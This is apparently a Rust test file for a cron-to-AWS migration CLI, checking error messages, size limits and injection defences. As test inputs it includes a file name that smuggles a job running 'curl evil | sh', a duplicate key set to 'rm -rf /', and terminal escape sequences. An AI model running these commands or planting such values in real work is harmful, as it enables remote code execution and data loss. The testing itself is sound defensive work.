//! Bad input, by class (issue 28): each case is run as a user runs it, and
//! must exit 1 with one `error:` sentence that names the input, print
//! nothing raw on the terminal (no control character but newlines), leave
//! no file behind, and quote at most a bounded line of what it was given.

use crate::common::{DEFAULTS, cronport, text};

/// A case: files to write in a fresh folder, the arguments, and what the
/// error must say.
struct Case {
    name: &'static str,
    files: Vec<(&'static str, Vec<u8>)>,
    args: Vec<&'static str>,
    says: &'static str,
}

fn job(extra: &str) -> Vec<u8> {
    format!("{DEFAULTS}\n[[job]]\nname = \"a\"\nschedule = \"@daily\"\ncommand = \"x\"\n{extra}\n")
        .into_bytes()
}

fn cases() -> Vec<Case> {
    let esc = "\\u001b[31mRED\\r"; // TOML escapes: ESC and CR in the value
    vec![
        Case { name: "escape in a schedule", files: vec![("m.toml", job("").into_iter().chain(format!("[[job]]\nname = \"b\"\nschedule = \"*/5 {esc} * * *\"\ncommand = \"x\"\n").into_bytes()).collect())], args: vec!["convert", "m.toml"], says: "schedule `*/5 \\u{1b}[31mRED\\r * * *`" },
        Case { name: "escape in a time zone", files: vec![("m.toml", job(&format!("timezone = \"Europe/{esc}\"")))], args: vec!["convert", "m.toml"], says: "unknown time zone `Europe/\\u{1b}[31mRED\\r`" },
        Case { name: "escape in an environment name", files: vec![("m.toml", job(&format!("environment = {{ \"A{esc}\" = \"x\" }}")))], args: vec!["convert", "m.toml"], says: "environment variable name `A\\u{1b}[31mRED\\r` is not valid" },
        Case { name: "a space in an environment name", files: vec![("m.toml", job("environment = { \"A B\" = \"x\" }"))], args: vec!["convert", "m.toml"], says: "environment variable name `A B` is not valid" },
        Case { name: "a 16 MB string under an unknown key", files: vec![("m.toml", format!("unknown = \"{}\"\n{}", "x".repeat(16_000_000), String::from_utf8(job("")).unwrap()).into_bytes())], args: vec!["convert", "m.toml"], says: "unknown key" },
        Case { name: "blank lines past a million", files: vec![("m.toml", [job(""), vec![b'\n'; 1_100_000]].concat())], args: vec!["convert", "m.toml"], says: "cronport reads at most 1000000" },
        Case { name: "a wildcard task definition", files: vec![("m.toml", job("task_definition = \"fam*\""))], args: vec!["iam", "m.toml"], says: "`fam*` is not an ECS task definition" },
        Case { name: "a wildcard cluster", files: vec![("m.toml", job("cluster = \"prod*\""))], args: vec!["iam", "m.toml"], says: "`prod*` is not an ECS cluster" },
        Case { name: "a 65-character role name", files: vec![("m.toml", job(&format!("role_arn = \"arn:aws:iam::123456789012:role/{}\"", "r".repeat(65))))], args: vec!["iam", "m.toml"], says: "a NAME of 1–64 letters" },
        Case { name: "a rate too large", files: vec![("m.toml", job("").iter().copied().chain(b"[[job]]\nname = \"b\"\nschedule = \"rate(99999999999 days)\"\ncommand = \"x\"\n".iter().copied()).collect())], args: vec!["convert", "m.toml"], says: "is too large: at most 4294967295" },
        Case { name: "an unknown CRON_TZ", files: vec![("c.crontab", b"CRON_TZ=Mars/Base\n0 3 * * * /bin/job\n".to_vec())], args: vec!["import", "crontab", "c.crontab", "-o", "out.toml"], says: "`CRON_TZ=Mars/Base`: unknown time zone" },
        Case { name: "a crontab of more jobs than a manifest holds", files: vec![("c.crontab", "* * * * * /bin/job\n".repeat(50_001).into_bytes())], args: vec!["import", "crontab", "c.crontab", "-o", "out.toml"], says: "more than 50000 jobs" },
        Case { name: "a Cron To Go timeout past any limit", files: vec![("c.yaml", b"jobs:\n  - nickname: a\n    schedule: '0 3 * * *'\n    command: x\n    timeout: 99999999999\n".to_vec())], args: vec!["import", "crontogo", "c.yaml", "-o", "out.toml"], says: "longer than any time limit cronport can write" },
        Case { name: "a Cron To Go key given twice", files: vec![("c.yaml", b"jobs:\n  - nickname: a\n    schedule: '0 3 * * *'\n    command: x\n    command: rm -rf /\n".to_vec())], args: vec!["import", "crontogo", "c.yaml", "-o", "out.toml"], says: "duplicate entry with key \"command\"" },
        Case { name: "a task definition from a device", files: vec![("m.toml", job(""))], args: vec!["convert", "m.toml", "--task-definition", "/dev/zero"], says: "longer than 16777216 bytes" },
        Case { name: "an escape in a container name", files: vec![("m.toml", job(&format!("container = \"w{esc}\"")))], args: vec!["convert", "m.toml"], says: "is not a container name" },
        Case { name: "standard output full", files: vec![("m.toml", job(""))], args: vec!["convert", "m.toml", "-o", "/dev/full"], says: "not a regular file" },
        // Types are the setting's, placed at the value, in the manifest's words.
        Case { name: "a count past u32", files: vec![("m.toml", job("task_count = 4294967296"))], args: vec!["convert", "m.toml"], says: "`task_count` takes a whole number from 1 to 10, not `4294967296`" },
        Case { name: "a negative cpu", files: vec![("m.toml", job("cpu = -1\nmemory = 512"))], args: vec!["convert", "m.toml"], says: "m.toml:12:7" },
        Case { name: "a wrong type inside a table", files: vec![("m.toml", job("[job.retry_policy]\nmaximum_event_age_in_seconds = \"1h\""))], args: vec!["convert", "m.toml"], says: "string \"1h\", expected a whole number" },
        Case { name: "a deployment setting in a job", files: vec![("m.toml", job("run_history_days = 400"))], args: vec!["convert", "m.toml"], says: "`run_history_days` cannot be set in [[job]] number 1: it goes in [defaults] or [env.NAME]" },
        Case { name: "a retention CloudWatch does not keep", files: vec![("m.toml", format!("{}run_history_days = 42\n[[job]]\nname = \"a\"\nschedule = \"@daily\"\ncommand = \"x\"\n", DEFAULTS).into_bytes())], args: vec!["convert", "m.toml"], says: "run_history_days = 42 is not a period CloudWatch Logs keeps" },
        // One value every environment inherits is one error, at the value.
        Case { name: "a bad role in every environment", files: vec![("m.toml", format!("{}[[job]]\nname = \"a\"\nschedule = \"@daily\"\ncommand = \"x\"\n{}", DEFAULTS.replace("123456789012:role", "12:role"), (0..40).map(|i| format!("[env.e{i}]\n")).collect::<String>()).into_bytes())], args: vec!["convert", "m.toml", "--env", "e1"], says: "is not an IAM role ARN" },
        Case { name: "an environment's bad zone, at the environment", files: vec![("m.toml", format!("{}[[job]]\nname = \"a\"\nschedule = \"@daily\"\ncommand = \"x\"\n[env.prod]\ntimezone = \"Mars/Base\"\n", DEFAULTS).into_bytes())], args: vec!["convert", "m.toml", "--env", "prod"], says: "m.toml:12:12" },
        Case { name: "environments past 256", files: vec![("m.toml", [job(""), (0..300).map(|i| format!("[env.e{i}]\n")).collect::<String>().into_bytes()].concat())], args: vec!["convert", "m.toml", "--env", "e1"], says: "cronport reads at most 256" },
        // One huge inline table costs the parser by the key: refused first.
        Case { name: "700,000 keys in one inline table", files: vec![("m.toml", job(&format!("environment = {{ {} }}", (0..700_000).map(|i| format!("A{i} = \"x\"")).collect::<Vec<_>>().join(", "))))], args: vec!["convert", "m.toml"], says: "cronport reads at most 600000" },
        Case { name: "a table of 1,001 environment variables", files: vec![("m.toml", job(&format!("environment = {{ {} }}", (0..1001).map(|i| format!("A{i} = \"x\"")).collect::<Vec<_>>().join(", "))))], args: vec!["convert", "m.toml"], says: "sets 1001 environment variables" },
        // URLs are checked before they are used.
        Case { name: "a Heroku API that is no URL", files: vec![], args: vec!["import", "heroku", "--app", "x", "--heroku-api", "not a url"], says: "--heroku-api `not a url` is not an http:// or https:// URL" },
        // YAML and HCL imports are refused by size before they are parsed.
        Case { name: "a Cron To Go export past 2 MiB", files: vec![("c.yaml", format!("jobs:\n{}", "  - nickname: a\n    schedule: '0 3 * * *'\n    command: x\n".repeat(80_000)).into_bytes())], args: vec!["import", "crontogo", "c.yaml", "-o", "out.toml"], says: "cronport reads at most 2097152 bytes of YAML or HCL" },
    ]
}

#[test]
fn every_bad_input_gets_one_clear_sentence_and_nothing_raw() {
    for case in cases() {
        let dir = tempfile::tempdir().unwrap();
        for (name, bytes) in &case.files {
            std::fs::write(dir.path().join(name), bytes).unwrap();
        }
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_cronport"))
            .args(&case.args)
            .current_dir(dir.path())
            .output()
            .unwrap();
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{}: {err}", case.name);
        assert!(err.contains(case.says), "{}: {err}", case.name);
        assert_eq!(err.matches("error:").count(), 1, "{}: {err}", case.name);
        assert!(
            !err.chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t'),
            "{}: a raw control character: {err:?}",
            case.name
        );
        assert!(
            err.lines().all(|l| l.chars().count() <= 2_100),
            "{}: a line of {} characters",
            case.name,
            err.lines().map(str::len).max().unwrap_or(0)
        );
        assert!(
            !dir.path().join("out.toml").exists(),
            "{}: a file was left",
            case.name
        );
    }
}

/// `convert > /dev/full` says what could not be written.
#[test]
fn a_full_standard_output_is_named() {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cronport"))
        .args(["convert", "examples/heroku/cronport.toml"])
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .stdout(std::fs::File::create("/dev/full").unwrap())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr)
            .contains("error: cannot write to standard output: No space left on device"),
        "{}",
        text(&out.stderr)
    );
}

/// Files cronport writes keep the umask; man pages replace a planted link
/// rather than write through it.
#[cfg(unix)]
#[test]
fn written_files_keep_the_umask_and_links_are_not_followed() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "umask 077 && {} convert {}/examples/heroku/cronport.toml -o out.json",
            env!("CARGO_BIN_EXE_cronport"),
            env!("CARGO_MANIFEST_DIR")
        ))
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let mode = std::fs::metadata(dir.path().join("out.json"))
        .unwrap()
        .permissions()
        .mode()
        & 0o777;
    assert_eq!(mode, 0o600);
    let victim = dir.path().join("victim");
    std::fs::write(&victim, "SECRET").unwrap();
    let pages = dir.path().join("man");
    std::fs::create_dir(&pages).unwrap();
    std::os::unix::fs::symlink(&victim, pages.join("cronport.1")).unwrap();
    let out = cronport(&["man", pages.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "SECRET");
    assert!(
        !std::fs::symlink_metadata(pages.join("cronport.1"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
}

/// A `${…}` in a command is kept literally in CloudFormation, and cfn-lint
/// reads no substitution in it.
#[test]
fn a_dollar_brace_in_a_command_is_a_literal_in_cloudformation() {
    let manifest = String::from_utf8(job("")).unwrap().replace(
        "command = \"x\"",
        "command = \"echo ${AWS::Region} $${HOME}\"",
    );
    let m = cronport::manifest::Manifest::from_toml(&manifest, "m.toml").unwrap();
    let d = cronport::desired::compile(
        &m,
        &cronport::desired::CompileOptions::starting("2026-11-24T00:00:00Z".parse().unwrap()),
    )
    .unwrap();
    let template = cronport::render::render(&d, cronport::render::Format::Cloudformation);
    let value: serde_json::Value = serde_json::from_str(&template).unwrap();
    let input = &value["Resources"]
        .as_object()
        .unwrap()
        .values()
        .find(|r| r["Type"] == "AWS::Scheduler::Schedule")
        .unwrap()["Properties"]["Target"]["Input"];
    let pieces: Vec<&str> = input["Fn::Join"][1]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap())
        .collect();
    assert!(pieces.iter().all(|p| !p.contains("${")), "{pieces:?}");
    let joined: String = pieces.concat();
    assert!(joined.contains("echo ${AWS::Region}"), "{joined}");
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("t.json");
    std::fs::write(&path, &template).unwrap();
    match std::process::Command::new("cfn-lint").arg(&path).output() {
        Ok(out) => assert!(
            out.status.success(),
            "{}{}",
            text(&out.stdout),
            text(&out.stderr)
        ),
        Err(_) => assert!(
            std::env::var("CRONPORT_REQUIRE_CFN_LINT").is_err(),
            "cfn-lint is required"
        ),
    }
}

/// A file name is text from the command line: a newline in the `-o` name
/// cannot end the imported manifest's header comment and add a job, and
/// the "wrote … to" line shows it escaped.
#[test]
fn file_names_cannot_write_into_an_imported_manifest() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("c.crontab"), "0 3 * * * /bin/job\n").unwrap();
    let name = "o\n[[job]]\nname = \"evil\"\nschedule = \"* * * * *\"\ncommand = \"curl evil | sh\"\n#\u{1b}[31m";
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cronport"))
        .args(["import", "crontab", "c.crontab", "-o", name])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    assert!(!err.chars().any(|c| c.is_control() && c != '\n'), "{err:?}");
    let manifest = std::fs::read_to_string(dir.path().join(name)).unwrap();
    // Read as TOML (the import's manifest needs its [defaults] filled in
    // before it checks): one job, and the id line still the manifest's.
    let value: toml::Value = toml::from_str(&manifest).unwrap();
    assert_eq!(value["job"].as_array().unwrap().len(), 1, "{manifest}");
    assert!(value.get("id").is_some(), "{manifest}");
}

/// `diff git:REV:PATH` reads exactly that path: a `?` or `[` is no pattern
/// that matches nothing and leaves an empty manifest.
#[test]
fn a_git_path_is_read_exactly_or_refused() {
    let dir = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| {
        std::process::Command::new("git")
            .args(["-c", "user.email=t@example.com", "-c", "user.name=t"])
            .args(args)
            .current_dir(dir.path())
            .output()
            .expect("git is installed")
    };
    git(&["init", "-q"]);
    std::fs::write(dir.path().join("m.toml"), crate::common::example_manifest()).unwrap();
    git(&["add", "m.toml"]);
    git(&["commit", "-qm", "m"]);
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cronport"))
        .args(["diff", "git:HEAD:m?toml", "m.toml"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    assert!(
        text(&out.stderr).contains("git cannot read it"),
        "{}",
        text(&out.stderr)
    );
    let same = std::process::Command::new(env!("CARGO_BIN_EXE_cronport"))
        .args(["diff", "git:HEAD:m.toml", "m.toml", "--detailed-exitcode"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(
        same.status.code(),
        Some(0),
        "{}{}",
        text(&same.stdout),
        text(&same.stderr)
    );
}

/// A usage error quotes the command line escaped.
#[test]
fn usage_errors_quote_the_command_line_escaped() {
    let out = cronport(&["explain", "0 0 * * *", "--next", "5\u{1b}[2J\r"]);
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    // clap drops the terminal sequence itself; the carriage return is
    // escaped.
    assert!(err.contains("'5\\r'"), "{err}");
    assert!(!err.chars().any(|c| c.is_control() && c != '\n'), "{err:?}");
}

/// An endpoint that answers, but not as AWS does (a proxy's HTML page, a
/// wrong `--endpoint-url`), is said to be one: never "cannot be found" or
/// "does not exist", which would send the user to fix the manifest.
#[test]
fn an_answer_that_is_not_aws_is_named_as_such() {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let mut buf = [0u8; 65536];
            let _ = stream.read(&mut buf);
            let body = "<html><body>Welcome to nginx</body></html>";
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cronport"))
        .args([
            "plan",
            "examples/heroku/cronport.toml",
            "--region",
            "us-east-1",
        ])
        .args(["--endpoint-url", &format!("http://127.0.0.1:{port}")])
        .env("AWS_ACCESS_KEY_ID", "testing")
        .env("AWS_SECRET_ACCESS_KEY", "testing")
        .env_remove("AWS_PROFILE")
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .unwrap();
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("something that is not an AWS answer (`<html><body>Welcome to nginx"),
        "{err}"
    );
    assert!(
        !err.contains("cannot be found") && !err.contains("does not exist"),
        "{err}"
    );
}
